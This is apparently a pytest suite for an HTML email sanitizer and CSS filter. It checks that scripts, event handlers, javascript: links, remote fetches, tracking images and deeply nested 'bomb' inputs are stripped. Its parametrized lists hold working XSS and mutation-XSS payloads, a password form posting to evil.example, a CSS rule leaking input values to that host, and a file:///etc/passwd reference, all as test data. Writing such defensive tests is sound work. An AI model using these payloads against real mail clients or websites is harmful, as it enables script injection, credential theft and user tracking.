"""What a mail's HTML may not do, however it is written."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from feedback.rules.mail.display.shown import DEEPEST, LONGEST, shown
from feedback.rules.mail.display.styles import styles

OWN = {"logo@shop": "data:image/png;base64,AAAA"}
LEFT = re.compile(r"<(/?[a-z0-9]+)")
TAG = re.compile(r"<[^>]*>")


def page(source, **options):
    return shown(source, **{"pictures": OWN} | options).html


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><p>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        "<body onload=alert(1)>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=https://evil.example><input name=password><button>Go</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css'; input[value^=a]{background:url(https://evil.example/a)}</style>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<img src='data:image/svg+xml;base64,AAAA'>",
        "<img src='data:text/html;base64,AAAA'>",
        "<td background=https://evil.example/x.gif>x</td>",
        "<img srcset='https://evil.example/x.gif 1x'>",
        "<video poster=https://evil.example/x.gif></video>",
        "<p style='background:url(https://evil.example/x)'>x</p>",
        "<p style='background-color:\\75rl(https://evil.example/x)'>x</p>",
        "<p style='width:expression(alert(1))'>x</p>",
        "<p style='-moz-binding:url(https://evil.example/x)'>x</p>",
        "<p style='position:fixed;top:0;left:0;width:100%;z-index:9'>x</p>",
        "<p style='color:red;/**/position:absolute'>x</p>",
        "<p id=csrf class=secret>x</p>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
        "<textarea><script>alert(1)</script></textarea><script>alert(1)",
    ],
)
def test_nothing_acts_fetches_or_moves(source):
    left = " ".join(TAG.findall(page(source))).lower()
    for word in ("script", "onerror", "onload", "evil.example", "<form", "<input", "<meta", "<base", "<link", "<style",
                 "<iframe", "<svg", "<object", "<embed", "position", "url(", "expression", "binding", "srcset",
                 "background=", "id=", "javascript", "data:text", "svg"):  # fmt: skip
        assert word not in left


def test_a_link_says_where_it_leads():
    found = page('<a href="https://evil.example:8080/login?u=1">https://bank.example</a>')
    assert found == (
        '<a href="https://evil.example:8080/login?u=1" title="evil.example" target="_blank" '
        'rel="noreferrer noopener nofollow">https://bank.example</a> <span class="place">[evil.example]</span>'
    )


def test_pictures_from_elsewhere_stay_away_until_asked_for():
    source = "<img src=https://a.example/1.gif alt=Logo><img src=//b.example/2.gif><img src='HTTP://c.example/3'>"
    found = shown(source, pictures={})
    assert found.blocked == 3
    assert "example" not in found.html
    assert "Logo" in found.html
    asked = shown(source, pictures={}, with_remote=True)
    assert (asked.blocked, asked.html.count("<img")) == (0, 3)


@pytest.mark.parametrize(
    ("source", "kept"),
    [
        ("<img src=cid:logo@shop>", '<img src="data:image/png;base64,AAAA">'),
        ("<img src='CID:logo%40shop'>", '<img src="data:image/png;base64,AAAA">'),
        ("<img src='cid:other@mail'>", ""),
        ("<img src='cid:https://evil.example/x'>", ""),
        ("<img src='cid:../../console/'>", ""),
        ("<img src='file:///etc/passwd'>", ""),
    ],
)
def test_only_the_mails_own_pictures_are_shown(source, kept):
    assert page(source) == kept
    assert shown(source, pictures=OWN).blocked == 0


def test_only_the_look_of_words_is_kept():
    written = "COLOR: Red; font-size:14px !important; position:fixed; background:url(x); color:rgb(1, 2, 3); x:y"
    assert styles(written) == "color: Red; font-size: 14px; color: rgb(1, 2, 3)"


def test_nothing_pushes_words_out_of_sight():
    written = (
        "letter-spacing:-1em; padding-left: -9px; text-indent:9999px; white-space:pre; white-space:pre-wrap; "
        "vertical-align:-99px; vertical-align:99px; vertical-align:Top; font-family:x-\n-.5px, Noto-Sans; margin:-1px"
    )
    assert styles(written) == "white-space: pre-wrap; vertical-align: Top"


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 100_000,
        "<div></x>" * 50_000,
        "<b><p></b>" * 50_000,
        "".join(f"<div><b title={n}></div>" for n in range(10_000)),
        "<table>" * 60_000,
        "<a href=x><table>" * 20_000,
        "<!--" * 100_000,
        "<a '" * 100_000,
        "<p " + "a " * 150_000 + ">",
        "<script>" + "</scrip" * 40_000,
        "<" * 200_000,
    ],
)
def test_a_bomb_is_bounded_before_anything_costly_sees_it(bomb):
    found = shown(bomb, pictures={})
    depth = deepest = 0
    for name in LEFT.findall(found.html):
        depth += -1 if name.startswith("/") else name not in ("br", "hr", "img", "wbr", "col")
        deepest = max(deepest, depth)
    assert deepest <= 2 * DEEPEST  # tables bring a body of their own
    assert len(found.html) <= 5 * LONGEST


def test_what_is_left_out_is_told():
    assert shown("<p>" + "x" * LONGEST, pictures={}).is_cut is True
    assert shown("<i>" * (DEEPEST + 1), pictures={}).is_cut is True
    assert shown("<p>Hello</p>", pictures={}).is_cut is False


def test_an_ordinary_mail_looks_like_itself():
    source = "<div style='color: #333'><h1>你好</h1><p>a &lt; b &amp; c<br>d</p><ul><li>1<li>2</ul></div>"
    assert page(source) == (
        '<div style="color:#333"><h1>你好</h1><p>a &lt; b &amp; c<br>d</p><ul><li>1</li><li>2</li></ul></div>'
    )


@given(st.text(alphabet="<>/='\" abipstylehrf:!-&;", max_size=200))
def test_whatever_is_written_only_known_tags_come_out(source):
    names = {name.lstrip("/") for name in LEFT.findall(page(source))}
    assert names <= {"a", "b", "i", "p", "s", "span", "table", "tr", "td", "th", "li", "tt", "hr", "br", "abbr"}
